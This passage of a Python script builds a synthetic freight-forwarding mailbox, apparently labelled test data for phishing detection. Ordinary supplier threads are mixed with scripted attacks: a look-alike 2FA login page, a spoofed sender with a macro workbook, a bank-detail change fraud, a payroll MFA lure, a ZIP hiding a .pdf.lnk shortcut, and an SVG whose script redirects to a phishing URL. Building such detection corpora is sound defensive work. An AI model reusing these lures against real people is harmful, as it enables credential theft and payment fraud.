           "Antworten gehen direkt an den Absender.\nKargoSnap B.V. · Keizersgracht 62 · Amsterdam · https://www.kargosnap.example")


def kargo_pod(t, order, receiver, signer, when_deliv, n, label=None, scen=None):
    sid = alnum(10)
    plain = (f"Piotr Zawadzki (ZAWADZKI TRANSPORT) hat Ihnen Dokumente über KargoSnap gesendet.\n\nAuftrag / Zlecenie: {order}\nStatus: Zugestellt / Delivered "
             f"{when_deliv}\nEmpfänger: {receiver}\nUnterschrieben von: {signer}\nAnzahl Fotos: {n}\n\nDie Fotos sind angehängt. Online ansehen: "
             f"https://app.kargosnap.example/s/{sid}" + KS_FOOT)
    html = ('<html><body style="font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#222"><table width="560" align="center"><tr><td style="background:#16a085;color:#fff;padding:12px 16px">'
            '<b>KargoSnap</b></td></tr><tr><td style="padding:16px">' + esc(plain.split("\n\n--\n")[0]).replace(f"https://app.kargosnap.example/s/{sid}",
            f'<a href="https://app.kargosnap.example/s/{sid}">https://app.kargosnap.example/s/{sid}</a>')
            + '</td></tr><tr><td style="font-size:11px;color:#888;padding:8px 16px">Diese Nachricht wurde im Auftrag des Absenders über KargoSnap versendet.</td></tr></table>'
            f'<img src="https://u4218.ct.sendgrid.example/wf/open?upn={alnum(60)}" width="1" height="1"></body></html>')
    atts = [(f"POD_{order}_{i + 1}.jpg", jpeg("samsung", "SM-A346B", t.astimezone(WAW).strftime("%Y:%m:%d %H:%M:%S"), 45 + 7 * i), "image/jpeg") for i in range(n)]
    return notice(kargo, "sendgrid", t, f"POD - Zlecenie {order} - {receiver}", plain, html, atts=atts, label=label, scen=scen,
                  reply_to=f"Piotr Zawadzki <{piotr.email}>",
                  extra=[("X-SG-EID", f"u001.{alnum(80)}"), ("X-SG-ID", f"u001.SdBcvi+{alnum(60)}"), ("X-Entity-ID", f"u001.{alnum(22)}==")])


pod1 = kargo_pod(at(2024, 11, 22, 23, 47, WAW), "24-11873", "Budpol Hurtownia, Łódź", "K. Nowicki", "22.11.2024 15:42", 3, GH,
                 ("G1", "POD photos sent at 23:47 through the haulier's transactional app service (no reply headers, Reply-To to his Gmail)"))
emit(me, "ol19", at(2024, 11, 25, 8, 5), [(piotr.name, piotr.email)], None, "AW: POD - Zlecenie 24-11873 - Budpol Hurtownia, Łódź", [pod1],
     "Danke, Herr Zawadzki, der POD ist angekommen. Die Rechnung bitte mit CMR-Kopie an rechnungseingang@rheinport-spedition.example." + SIG_ME,
     topic="POD - Zlecenie 24-11873 - Budpol Hurtownia, Łódź")

# ================================================================ T30 Keskin (WEB.DE app): swap bodies (G22)
t30 = Thread("T30", murat, "Wechselbrücken Logport - Nahverkehr")
t30.add(me, "Hallo Herr Keskin,\n\nkönnten Sie ab Dezember die Wechselbrücken-Umfuhren zwischen Logport I und unserem Außenlager in Rheinhausen übernehmen? "
        "Ca. 6-8 Umfuhren pro Tag, Montag bis Freitag, Preis pro Umfuhr 38 €.", at(2024, 11, 25, 10, 0))
t30.add(murat, "Hallo Frau Brückner, ja gerne. Ich habe einen Wechselbrücken-LKW mit Hubfunktion. Ab 02.12. möglich.\nGruß Murat Keskin",
        at(2024, 11, 25, 18, 40))
t30.add(me, "Prima, dann starten wir am 02.12. um 06:00 an Tor 3.", at(2024, 11, 26, 8, 5))
t30.add(murat, "Guten Abend, heute 8 Umfuhren, Liste mit Unterschrift vom Lager im Anhang (Foto).\nGruß Murat", at(2024, 12, 2, 23, 5), GH,
        scen=("G22", "owner-driver sends a photo of the signed list at 23:05 from the WEB.DE app"),
        atts=[("20241202_230112.jpg", jpeg("samsung", "SM-A256B", "2024:12:02 23:01:12", 65), "image/jpeg")])
t30.add(me, "Danke, Herr Keskin - passt.", at(2024, 12, 3, 7, 30))
t30.add(murat, "Hallo Frau Brückner, nächste Woche Montag und Dienstag ist mein LKW beim TÜV, mein Bruder fährt die Umfuhren mit dem zweiten Wagen (DU-MK 118).",
        at(2025, 2, 11, 19, 20))
t30.add(me, "Danke für die Info, ich sage an Tor 3 Bescheid.", at(2025, 2, 12, 7, 45))

# ================================================================ T34 internal: new colleague Lukas (G34)
DISPO = [("Disposition", f"dispo@{OWN}")]
t34 = Thread("T34", kraemer, "Neuer Kollege in der Disposition ab 06.01.: Lukas Berger", inbox_to=DISPO)
t34.add(kraemer, "Hallo zusammen,\n\nab dem 06.01. verstärkt uns Lukas Berger in der Disposition (Nahverkehr und Benelux). Lukas kommt von einer Spedition in Venlo "
        "und spricht Niederländisch. Melanie arbeitet ihn in den ersten Wochen ein; bitte gebt ihm Zugriff auf die Dispo-Ordner.", at(2024, 12, 16, 12, 0))
t34.add(me, "Super, ich freue mich! Ich bereite einen Einarbeitungsplan vor und richte ihm den FrachtPilot-Zugang ein.", at(2024, 12, 16, 12, 30),
        to=[(kraemer.name, kraemer.email)])
t34.add(kraemer, "Danke Melanie.", at(2024, 12, 16, 13, 2))
t34.add(berger, "Hallo zusammen,\n\nvielen Dank für den freundlichen Empfang heute Morgen! Meine Durchwahl ist -216, Mail l.berger@rheinport-spedition.example. "
        "Ich freue mich auf die Zusammenarbeit.", at(2025, 1, 6, 9, 40), GH, scen=("G34", "the new colleague (announced by the boss) writes his first mail in the thread"))

# ================================================================ T31 FrachtPilot support ticket (G10) and A14 look-alike
ZD_TOP = "##- Bitte geben Sie Ihre Antwort über dieser Zeile ein. -##\n\n"
ZD_FOOT = ("\n\nDiese E-Mail ist eine Benachrichtigung zu Ihrer Anfrage [{t}] beim FrachtPilot Kundenservice. Antworten Sie auf diese E-Mail, um weitere "
           "Kommentare hinzuzufügen.\nFrachtPilot GmbH · Speditionstraße 21 · 40221 Düsseldorf · https://hilfe.frachtpilot.example")
t31 = Thread("T31", fpsup, "Zweiter Benutzer für Lukas Berger")
q31 = ("Sehr geehrte Damen und Herren,\n\nunser neuer Kollege Lukas Berger (l.berger@rheinport-spedition.example) soll ab sofort einen eigenen FrachtPilot-Zugang "
       "unter unserer Firmenlizenz (Kundennummer 204417) bekommen. Bitte richten Sie einen zweiten Benutzer ein.")
t31.add(me, q31, at(2025, 1, 7, 9, 20))
tk = f"{alnum(6).upper()}-{alnum(5).upper()}"
zd1 = (ZD_TOP + "Ihre Anfrage (48213) wurde aktualisiert.\n\nTimo Brandes (FrachtPilot Kundenservice)\n7. Jan. 2025, 13:05 MEZ\n\nGuten Tag Frau Brückner,\n\n"
       "der zweite Benutzer ist eingerichtet. Herr Berger erhält eine separate E-Mail zur Aktivierung seines Zugangs; die Zwei-Faktor-Authentifizierung richtet "
       "er beim ersten Login unter https://app.frachtpilot.example/login ein.\n\nAnleitung: https://hilfe.frachtpilot.example/hc/de/articles/360014482-Benutzer-verwalten\n\n"
       "Ihre Lizenz erhöht sich ab Februar auf 2 Nutzer (Business).\n\nMit freundlichen Grüßen\nTimo Brandes\n\n\nMelanie Brückner\n7. Jan. 2025, 09:20 MEZ\n\n"
       + q31 + ZD_FOOT.format(t=tk))
zdh = lambda p: ('<html><body style="font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#2b2b2b"><div style="color:#b5b5b5">##- Bitte geben Sie Ihre Antwort über dieser Zeile ein. -##</div>'
                 + esc(p.replace(ZD_TOP, "")) + "</body></html>")
t31.add(fpsup, zd1, at(2025, 1, 7, 13, 5), GH, sig=False, quote=False, subj="[FrachtPilot] Re: Zweiter Benutzer für Lukas Berger", html=zdh(zd1),
        scen=("G10", "freight exchange's Zendesk support reply with login and help-centre links"),
        extra=[("X-Zendesk-From-Account-Id", "3f1a2b"), ("X-Zendesk-Email-Id", alnum(26).upper())])
t31.add(me, "Vielen Dank, Herr Brandes, das ging schnell.", at(2025, 1, 7, 13, 30), subj="AW: [FrachtPilot] Re: Zweiter Benutzer für Lukas Berger")
zd2 = (ZD_TOP + "Ihre Anfrage (48213) wurde gelöst.\n\nTimo Brandes (FrachtPilot Kundenservice)\n9. Jan. 2025, 08:02 MEZ\n\nGuten Tag Frau Brückner,\n\n"
       "gern geschehen! Wir schließen die Anfrage. Falls noch etwas offen ist, antworten Sie einfach auf diese E-Mail.\n\nMit freundlichen Grüßen\nTimo Brandes"
       + ZD_FOOT.format(t=tk))
t31.add(fpsup, zd2, at(2025, 1, 9, 8, 2), sig=False, quote=False, subj="[FrachtPilot] Re: Zweiter Benutzer für Lukas Berger", html=zdh(zd2),
        extra=[("X-Zendesk-From-Account-Id", "3f1a2b"), ("X-Zendesk-Email-Id", alnum(26).upper())])
fpfake = Pt("FrachtPilot Kundenservice", "support@frachtpilot-service.example", "phpmailer", "vps-fp", "", UTC)
zd3 = (ZD_TOP + "Ihre Anfrage (48213) wurde aktualisiert.\n\nTimo Brandes (FrachtPilot Kundenservice)\n6. Feb. 2025, 08:03 MEZ\n\nGuten Tag Frau Brückner,\n\n"
       "im Zuge der Lizenzerweiterung auf 2 Nutzer (Business) müssen alle Benutzer Ihres Firmenkontos die Zwei-Faktor-Authentifizierung bis zum 10.02. "
       "erneut bestätigen. Andernfalls werden die Zugänge von Ihnen und Herrn Berger vorübergehend gesperrt und Ihre laufenden Ladungsangebote deaktiviert.\n\n"
       "Bitte bestätigen Sie hier mit Ihren gewohnten Zugangsdaten:\nhttps://frachtpilot-service.example/konto/2fa-bestaetigen?ticket=48213&u=m.brueckner\n\n"
       "Mit freundlichen Grüßen\nTimo Brandes" + ZD_FOOT.format(t=tk))
t31.add(fpfake, zd3, at(2025, 2, 6, 8, 3, UTC) - datetime.timedelta(hours=1), HJ("lookalike-domain"), sig=False, quote=False, detached=True,
        subj="[FrachtPilot] Re: Zweiter Benutzer für Lukas Berger", html=zdh(zd3).replace("https://frachtpilot-service.example/konto/2fa-bestaetigen?ticket=48213&amp;u=m.brueckner",
        '<a href="https://frachtpilot-service.example/konto/2fa-bestaetigen?ticket=48213&u=m.brueckner">https://app.frachtpilot.example/konto/sicherheit</a>'),
        scen=("A14", "look-alike freight-exchange support domain answers the real ticket: 2FA re-confirmation link to a fake login page"),
        refs=list(t31.refs[:2]))

# ================================================================ T4 Schürmann: Q1 planning with weekly xlsx lists; A10 display-name spoof (macro workbook)
def ladeliste(kw, rows, when):
    head = [["Schürmann Stahlhandel GmbH - Ladeliste KW " + str(kw)], ["Datum", "Ladereferenz", "Ziel", "Empfänger", "Material", "Gewicht kg", "Ladezeit"]]
    return (f"Ladeliste_KW{kw:02d}_Schuermann.xlsx", ooxml_xlsx(head + rows, sheet=f"KW{kw:02d}", when=when, author="Klein, Sandra"),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


t4 = Thread("T4", joerg, "Rahmenplanung Q1/2025 - Touren Hochfeld nach NL/BE")
t4.add(joerg, "Hallo Frau Brückner,\n\nanbei unsere Planung für das erste Quartal: ca. 14 Touren pro Monat nach Venlo, Genk und Antwerpen, überwiegend Coils, "
       "einzelne Blechpakete. Die Wochenlisten schickt Frau Klein wie gewohnt jeweils donnerstags für die Folgewoche.\n\nBitte kurz bestätigen, ob Sie die "
       "Kapazitäten zu den Konditionen aus 2024 abdecken können. Die neue Dieselklausel besprechen wir im Januar.", at(2024, 12, 12, 8, 30),
       atts=[("Planung_Q1_2025_Schuermann.xlsx", ooxml_xlsx([["Monat", "Venlo", "Genk", "Antwerpen"], ["Januar", 8, 4, 2], ["Februar", 8, 3, 3], ["März", 9, 4, 2]],
                                                          sheet="Q1", when="2024-12-11T15:20:00Z"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
t4.add(me, "Hallo Herr Brinkmann,\n\nvielen Dank. 14 Touren im Monat können wir abdecken, Verhoeven hat die Coilmulden fest für uns eingeplant. Konditionen wie 2024 "
       "bis Ende Januar, danach gilt der neue Dieselfloater (quartalsweise, Basis Dezember-Index).\n\nDie Wochenlisten bitte weiterhin an mich.", at(2024, 12, 12, 14, 5))
t4.add(sandra, "Hallo Frau Brückner,\n\nanbei die Ladeliste für KW 03 - 4 Touren, Genk am Mittwoch bitte früh (Anlieferung bis 10:00).", at(2025, 1, 9, 14, 12),
       atts=[ladeliste(3, [["15.01.", "LA-25-0102", "Venlo", "Staalservice Limburg", "Coil", 23400, "07:00"], ["15.01.", "LA-25-0103", "Genk", "Limburg Steel Processing", "Coil", 22100, "05:30"],
                           ["16.01.", "LA-25-0107", "Venlo", "Staalservice Limburg", "Coil", 23800, "07:00"], ["17.01.", "LA-25-0110", "Antwerpen", "Scheldt Metals", "Blech", 18200, "08:00"]],
                       "2025-01-09T13:50:00Z")])
t4.add(me, "Danke, Frau Klein, alle vier Touren sind eingeplant. Genk fährt Verhoeven, Ladebeginn 05:30.", at(2025, 1, 9, 15, 30), to=[(sandra.name, sandra.email)])
t4.add(sandra, "Anbei KW 04. Achtung: Die Tour nach Antwerpen am Freitag entfällt, der Kunde hat verschoben.", at(2025, 1, 16, 13, 55),
       atts=[ladeliste(4, [["22.01.", "LA-25-0151", "Venlo", "Staalservice Limburg", "Coil", 23100, "07:00"], ["23.01.", "LA-25-0155", "Genk", "Limburg Steel Processing", "Coil", 21900, "05:30"],
                           ["23.01.", "LA-25-0156", "Venlo", "Staalservice Limburg", "Coil", 23500, "09:00"]], "2025-01-16T13:40:00Z")])
t4.add(me, "Danke, Antwerpen ist storniert. Drei Touren in KW 04 bestätigt.", at(2025, 1, 16, 14, 20), to=[(sandra.name, sandra.email)])
bakery = Pt("Jörg Brinkmann", "info@baeckerei-overbeck.example", "strato", "strato-bakery")
t4.add(bakery, "Hallo Frau Brückner,\n\nanbei wie besprochen die Ladeliste für KW 05 (geänderte Version, bitte die alte verwerfen).\n\nMit freundlichen Grüßen\n"
       "Jörg Brinkmann", at(2025, 1, 21, 9, 14), HJ("display-name-spoof"), sig=False, detached=True, orig_ip="177.87.212.9",
       frm=ew("Jörg Brinkmann <j.brinkmann@schuermann-stahl.example>", utf=False) + " <info@baeckerei-overbeck.example>",
       subj="AW: Rahmenplanung Q1/2025 - Touren Hochfeld nach NL/BE",
       atts=[("Ladeliste_KW05_Schuermann.xlsm", ooxml_xlsx([["Schürmann Stahlhandel GmbH - Ladeliste KW 5"], ["Inhalt geschützt. Bitte oben auf \"Bearbeitung aktivieren\" "
                                                             "und \"Inhalt aktivieren\" klicken."]], sheet="KW05", macro=True, when="2025-01-20T22:41:00Z", author="Admin"),
              "application/vnd.ms-excel.sheet.macroEnabled.12")],
       scen=("A10", "'Jörg Brinkmann' display name on a compromised bakery mailbox (Strato), real quote of the thread, macro workbook Ladeliste_KW05.xlsm"))
t4.add(sandra, "Hallo Frau Brückner,\n\nhier die Ladeliste für KW 05 - 3 Touren, alle Venlo.", at(2025, 1, 23, 14, 1),
       atts=[ladeliste(5, [["29.01.", "LA-25-0201", "Venlo", "Staalservice Limburg", "Coil", 23700, "07:00"], ["30.01.", "LA-25-0204", "Venlo", "Staalservice Limburg", "Coil", 22900, "07:00"],
                           ["31.01.", "LA-25-0209", "Venlo", "Staalservice Limburg", "Coil", 23300, "07:00"]], "2025-01-23T13:45:00Z")])
t4.add(me, "Danke, bestätigt.\n\nÜbrigens: Am Dienstag kam bei uns eine Mail mit Herrn Brinkmanns Namen an, aber von einer fremden Adresse (baeckerei-overbeck), "
       "mit einer Excel-Datei mit Makros. Ich habe sie nicht geöffnet und unserer IT gemeldet - vielleicht sagen Sie Ihrer IT kurz Bescheid.",
       at(2025, 1, 23, 15, 10), to=[(sandra.name, sandra.email)], cc=[(joerg.name, joerg.email)])
t4.add(joerg, "Danke für den Hinweis! Von uns kam da nichts. Unsere IT hat geprüft, bei uns ist kein Konto betroffen - vermutlich wurde ein älterer "
       "Mailverlauf bei einem Kunden oder Lieferanten abgegriffen.", at(2025, 1, 23, 16, 44))

# ================================================================ T32 internal Buchhaltung: DATEV approvals; A11 display-name spoof (payroll / MFA)
t32 = Thread("T32", lange, "DATEV: offene Freigaben Frachtrechnungen Januar")
t32.add(lange, "Hallo Melanie,\n\nfür den Monatsabschluss Januar fehlen noch 7 Frachtrechnungen in DATEV Unternehmen online, die bei dir zur sachlichen Freigabe "
        "liegen (u. a. Trans-Pol FV/2025/0211 und 0233, Verhoeven 2025-0140). Kannst du die bis Mittwoch freigeben? Die Kanzlei braucht den Abschluss am Freitag.",
        at(2025, 2, 24, 8, 45))
t32.add(me, "Hallo Ulrike,\n\nmache ich heute Nachmittag. Bei Verhoeven 2025-0140 ist der Dieselzuschlag falsch (+1,8 % statt 0 %), die gebe ich erst frei, "
        "wenn die Korrektur da ist.", at(2025, 2, 24, 10, 2), to=[(lange.name, lange.email)])
t32.add(lange, "Danke! Verhoeven notiere ich als strittig.", at(2025, 2, 24, 10, 30))
fake_lange = Pt("Ulrike Lange", "ulrike.lange.fibu@outlook.com", "outlookcom", "outlookcom", "")
t32.add(fake_lange, "Hallo Melanie,\n\nnoch was anderes: Die Lohnabrechnungen laufen ab März über DATEV Arbeitnehmer online. Alle Mitarbeiter müssen sich bis "
        "Freitag einmal neu registrieren und die Anmeldung mit dem Handy bestätigen, sonst kann die März-Abrechnung nicht zugestellt werden. Hier der Link "
        "für die Registrierung:\nhttps://arbeitnehmer-online-datev.example/registrierung?ma=10415-0214\n\nDanke und viele Grüße\nUlrike",
        at(2025, 2, 26, 7, 12), HJ("display-name-spoof"), sig=False, detached=True, qrec=1, refs=list(t32.refs[:2]), fromdom="outlook.com",
        scen=("A11", "'Ulrike Lange' (internal accounting) from outlook.com: payroll re-registration with MFA on an unknown domain, quotes the internal thread"))
t32.add(lange, "Hallo Melanie,\n\nalle Freigaben sind da, danke! Verhoeven hat die Korrektur inzwischen geschickt.", at(2025, 2, 26, 11, 20))

# ================================================================ T14 Trans-Pol accounting: invoices; A1 account takeover (bank change)
t14 = Thread("T14", joanna, "Invoice FV/2024/1187 - payment")
t14.add(joanna, "Dear Ms Brückner,\n\nplease find attached our invoice FV/2024/1187 for the transports in October (orders 24-10288, 24-10301, 24-10455), "
        f"total 3,450.00 EUR. Payment term 30 days.\n\nOur bank account: Santander Bank Polska S.A., IBAN {IBAN_TP_OLD}, SWIFT WBKPPLPP.",
        at(2024, 11, 20, 10, 2, WAW),
        atts=[("FV_2024_1187.pdf", pdf(["TRANS-POL Sp. z o.o. - Faktura VAT / Rechnung FV/2024/1187", "Nabywca: Rheinport Spedition GmbH, Duisburg",
                                        "Transport 24-10288, 24-10301, 24-10455", "Razem / Gesamt: 3.450,00 EUR (odwrotne obciazenie)", f"IBAN {IBAN_TP_OLD}"],
                                       producer="Comarch ERP Optima", when="20241120095500"), "application/pdf")])
t14.add(me, "Dear Ms Kaczmarek,\n\nthank you, I have passed the invoice to our accounting (Ms Lange) for payment.", at(2024, 11, 20, 11, 30))
emit(me, "ol19", at(2024, 11, 20, 11, 32), [(lange.name, lange.email)], None, "WG: Invoice FV/2024/1187 - payment", [],
     "Hallo Ulrike,\n\nzur Zahlung, sachlich richtig (Aufträge 24-10288, 24-10301, 24-10455).\n\nGruß Melanie", topic="Invoice FV/2024/1187 - payment")
t14.add(joanna, "Dear Ms Brückner,\n\nhappy new year! Invoice FV/2024/1187 was due on 20.12. and we have not received the payment yet. Could you please check?",
        at(2025, 1, 8, 9, 40, WAW))
t14.add(me, "Dear Ms Kaczmarek,\n\nour accounting confirms the payment was made on 06.01. (value date). You should see it today or tomorrow. Sorry for the "
        "delay - the December payment run was postponed because of the holidays.", at(2025, 1, 8, 10, 35))
t14.add(joanna, "Thank you, received today.", at(2025, 1, 9, 8, 15, WAW))
t14.add(joanna, "Dear Ms Brückner,\n\nattached our invoices FV/2025/0211 (January, orders 25-0031 and 25-0058, 2,300.00 EUR) and FV/2025/0233 (order 25-0072, "
        "1,150.00 EUR). Bank account as usual.", at(2025, 2, 18, 9, 2, WAW),
        atts=[("FV_2025_0211.pdf", pdf(["TRANS-POL Sp. z o.o. - Faktura VAT FV/2025/0211", "Transport 25-0031, 25-0058", "Razem: 2.300,00 EUR", f"IBAN {IBAN_TP_OLD}"],
                                       producer="Comarch ERP Optima", when="20250218085000"), "application/pdf"),
              ("FV_2025_0233.pdf", pdf(["TRANS-POL Sp. z o.o. - Faktura VAT FV/2025/0233", "Transport 25-0072", "Razem: 1.150,00 EUR", f"IBAN {IBAN_TP_OLD}"],
                                       producer="Comarch ERP Optima", when="20250218085200"), "application/pdf")])
t14.add(me, "Thank you, forwarded to accounting.", at(2025, 2, 18, 9, 50))
joanna_rc = Pt("Joanna Kaczmarek", joanna.email, "roundcube", "hostpl", "", WAW)
t14.add(joanna_rc, "Dear Ms Brückner,\n\nplease be informed that due to the ongoing audit of our company accounts, the payment for invoices FV/2025/0211 and "
        "FV/2025/0233 (3,450.00 EUR in total) and all future invoices must be made to our new account:\n\nBank: mBank S.A.\nAccount holder: TRANS-POL Sp. z o.o.\n"
        f"IBAN: {IBAN_TP_FAKE}\nSWIFT: BREXPLPWMBK\n\nThe old account at Santander is blocked for incoming transfers until the audit is finished, payments "
        "there will be returned. Please confirm when the payment is scheduled and send us the remittance advice.\n\nBest regards\nJoanna Kaczmarek\n"
        "Księgowość / Accounting\nTRANS-POL Sp. z o.o.", at(2025, 3, 4, 14, 26, WAW), HJ("account-takeover"), sig=False, detached=True, orig_ip="102.89.33.17",
        scen=("A1", "haulier's accounting mailbox used through the hoster's Roundcube from a foreign IP: open invoices to a new mBank IBAN, quotes the thread"))
t14.add(me, "Dear Ms Kaczmarek,\n\nyesterday we received an e-mail from your address asking us to pay to a new account at mBank. As agreed in our framework "
        "contract, we change bank details only after a letter signed by the management and a call-back to a known number. Until then we pay to the Santander "
        "account we have on file. I tried to call you this morning - please call me back at +49 2065 555-214.", at(2025, 3, 5, 8, 20),
        cc=[(marek.name, marek.email)])
t14.add(joanna, "Dear Ms Brückner,\n\nthank you very much for checking! We did NOT change our bank account. Somebody logged into our mailbox through the webmail "
        "yesterday; we have changed the password and informed the hosting company. Please pay only to Santander as before.", at(2025, 3, 5, 10, 12, WAW),
        cc=[(marek.name, marek.email)])
t14.add(me, "Thank you for confirming. The payment of both invoices is scheduled for 20 March to Santander.", at(2025, 3, 5, 10, 40))

# ================================================================ T15 Trans-Pol: invoice correction asked for (G26)
t15 = Thread("T15", marek, "Rechnungskorrektur FV/2025/0317 - Standgeld Auftrag 25-0266")
t15.add(me, "Hallo Herr Dąbrowski,\n\nin Ihrer Rechnung FV/2025/0317 sind 4 Stunden Standgeld in Poznań berechnet (160 €). Laut Entladebestätigung war das Fahrzeug "
        "von 07:40 bis 10:05 beim Empfänger, also gut 2 Stunden, und die ersten 2 Stunden sind frei. Bitte schicken Sie uns eine Korrekturrechnung.",
        at(2025, 3, 20, 10, 12))
t15.add(marek, "Guten Tag Frau Brückner,\n\nSie haben recht, Fehler von unsere Seite. Anbei die Korrekturrechnung FK/2025/014 (Standgeld 0,00 EUR), die Rechnung "
        "FV/2025/0317 ist damit korrigiert.\n\nEntschuldigung!", at(2025, 3, 20, 14, 30, WAW), GH,
        scen=("G26", "haulier sends the correction invoice (PDF) that Melanie asked for"),
        atts=[("Korekta_FK_2025_014.pdf", pdf(["TRANS-POL Sp. z o.o. - Faktura korygujaca FK/2025/014", "do faktury FV/2025/0317", "Postoj / Standgeld: 160,00 -> 0,00 EUR",
                                               "Razem korekta: -160,00 EUR"], producer="Comarch ERP Optima", when="20250320142200"), "application/pdf")])
t15.add(me, "Danke, ist an die Buchhaltung weitergeleitet.", at(2025, 3, 20, 14, 55))

# ================================================================ T16 Trans-Pol: tour 25-0288; A2 server hijack (zip with .lnk)
t16 = Thread("T16", marek, "Tour 25-0288 Duisburg - Poznań, Standzeit Entladestelle")
t16.add(marek, "Guten Tag Frau Brückner,\n\nunser Fahrer mit PO 4KX21 steht seit 11:00 bei dem Empfänger in Poznań (Budmax, ul. Gorzysława), die Ware wird nicht "
        "abgeladen, weil auf dem Lieferschein die Bestellnummer fehlt. Können Sie bitte mit dem Versender klären?", at(2025, 3, 27, 16, 5, WAW))
t16.add(me, "Hallo Herr Dąbrowski,\n\ndanke. Die Bestellnummer ist BM-45521, ich habe Budmax direkt angerufen, sie laden jetzt ab. Das Standgeld ab 13:00 können "
        "Sie berechnen.", at(2025, 3, 27, 16, 30))
t16.add(marek, "Danke, Ware ist abgeladen um 17:20. Standgeld 4 Stunden, kommt mit der Rechnung.", at(2025, 3, 27, 17, 42, WAW))
t16.add(me, "In Ordnung, 4 Stunden ab 13:00 sind bestätigt (Budmax hat die Verzögerung schriftlich bestätigt).", at(2025, 3, 28, 8, 15))
t16.add(marek, "Guten Tag,\n\nanbei die Rechnungskorrektur wie besprochen. Die Datei ist gezippt wegen der Größe.\n\nMit freundlichen Grüßen",
        at(2025, 4, 2, 11, 6, WAW), HJ("server-hijack"), detached=True,
        atts=[("Rechnungskorrektur_FV-2025-0388.zip", zip_bytes([("Rechnungskorrektur_FV-2025-0388.pdf.lnk",
              lnk('/c start "" /min "%SystemRoot%\\System32\\timeout.exe" 1 & exit', r"%ProgramFiles(x86)%\Microsoft\Edge\Application\msedge.exe"))],
              (2025, 4, 2, 10, 51, 30)), "application/x-zip-compressed")],
        scen=("A2", "haulier's real Outlook/hoster path (same IP, DESKTOP name, DKIM): 'Rechnungskorrektur' ZIP holding a .pdf.lnk, faithful quote"))
t16.add(marek, "Guten Tag Frau Brückner,\n\nanbei die Rechnung FV/2025/0391 für Tour 25-0288 inkl. 4 Stunden Standgeld (ab 13:00, wie bestätigt).",
        at(2025, 4, 3, 9, 10, WAW),
        atts=[("FV_2025_0391.pdf", pdf(["TRANS-POL Sp. z o.o. - Faktura VAT FV/2025/0391", "Transport 25-0288 Duisburg - Poznan", "Fracht 1.150,00 EUR",
                                        "Postoj 4 h x 40,00 = 160,00 EUR", "Razem: 1.310,00 EUR", f"IBAN {IBAN_TP_OLD}"], producer="Comarch ERP Optima", when="20250403090200"),
               "application/pdf")])
t16.add(me, "Danke, geht zur Zahlung.", at(2025, 4, 3, 9, 40))

# ================================================================ T5 Schürmann weekly list wk 11; A9 account takeover via SMTP AUTH (voicemail SVG)
t5 = Thread("T5", sandra, "Ladeliste KW 11")
t5.add(sandra, "Hallo Frau Brückner,\n\nanbei die Ladeliste für KW 11: 5 Touren (3x Venlo, 1x Genk, 1x Antwerpen). Die Antwerpen-Tour hat 2 Blechpakete mit "
       "Überbreite 2,55 m - bitte passendes Fahrzeug.", at(2025, 3, 6, 13, 40),
       atts=[ladeliste(11, [["11.03.", "LA-25-0612", "Venlo", "Staalservice Limburg", "Coil", 23600, "07:00"], ["11.03.", "LA-25-0613", "Genk", "Limburg Steel Processing", "Coil", 22400, "05:30"],
                            ["12.03.", "LA-25-0618", "Venlo", "Staalservice Limburg", "Coil", 23100, "07:00"], ["13.03.", "LA-25-0621", "Antwerpen", "Scheldt Metals", "Blech 2,55 m", 17800, "08:00"],
                            ["14.03.", "LA-25-0625", "Venlo", "Staalservice Limburg", "Coil", 23900, "07:00"]], "2025-03-06T13:20:00Z")])
t5.add(me, "Hallo Frau Klein,\n\ndanke. Überbreite 2,55 m ist knapp - mit Kantenschutz kommen wir auf 2,60 m. Können die Pakete gedreht verladen werden? "
       "Sonst brauche ich eine Ausnahmegenehmigung.", at(2025, 3, 6, 15, 2))
t5.add(sandra, "Guten Morgen, die Pakete können längs gedreht werden, dann passt es. Unser Kran lädt das so.", at(2025, 3, 7, 8, 21))
t5.add(me, "Prima, dann alles wie geplant. 5 Touren bestätigt.", at(2025, 3, 7, 9, 0))
VM_URL = f"https://voicebox-player-web.example/play/{alnum(12)}?rcpt=m.brueckner%40rheinport-spedition.example"
svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="140" viewBox="0 0 420 140">\n'
       '<rect width="420" height="140" rx="10" fill="#f2f5f8"/><circle cx="60" cy="70" r="34" fill="#2a7ae2"/><polygon points="50,52 50,88 80,70" fill="#fff"/>\n'
       '<text x="110" y="62" font-family="Segoe UI,Arial" font-size="18" fill="#222">Sprachnachricht (0:47)</text>\n'
       '<text x="110" y="90" font-family="Segoe UI,Arial" font-size="13" fill="#555">Schürmann Stahlhandel - Durchwahl 4423</text>\n'
       f'<a xlink:href="{VM_URL}"><rect width="420" height="140" fill-opacity="0"/></a>\n'
       f'<script type="text/javascript"><![CDATA[\nwindow.location.href = "{VM_URL}";\n]]></script>\n</svg>\n')
t5.add(sandra, "Guten Morgen Frau Brückner,\n\nich habe Ihnen eben auf die Mailbox gesprochen wegen der Antwerpen-Tour, hier die Sprachnachricht noch einmal "
       "als Datei. Bitte kurz anhören und mir zurückgeben.\n\nViele Grüße\nSandra Klein", at(2025, 3, 13, 6, 2), HJ("account-takeover"), sig=False, quote=False,
       detached=True, client="smtpauth", orig_ip="185.225.74.53", no_html=True,
       atts=[("Sprachnachricht_13-03-2025_0602.svg", svg.encode(), "image/svg+xml")],
       scen=("A9", "shipper's M365 account used by SMTP AUTH from a VPS (no Outlook headers): 'voicemail' SVG that redirects to an unknown domain"))
t5.add(sandra, "Hallo Frau Brückner,\n\nbitte löschen Sie die Mail von heute früh mit der Sprachnachricht - die kam nicht von mir. Unser Konto wurde missbraucht, "
       "die IT hat das Kennwort zurückgesetzt und SMTP für alle Postfächer abgeschaltet. Entschuldigung für die Umstände!", at(2025, 3, 13, 9, 37))
t5.add(me, "Danke für die Info - ich hatte sie nicht geöffnet. Gut, dass es so schnell bemerkt wurde.", at(2025, 3, 13, 10, 5))

# ================================================================ T3 revived after five months (G20)
t3.add(joerg, "Hallo Frau Brückner,\n\nich muss das Thema Coil 4471 leider noch einmal aufmachen: Staalservice hat uns im Rahmen der Jahresabstimmung die 850 € "
       "doch noch belastet, mit Verweis auf ein Foto ihres Kranführers vom Ablieferungstag. Das Foto hänge ich an. Können Sie das bitte mit Verhoeven noch "
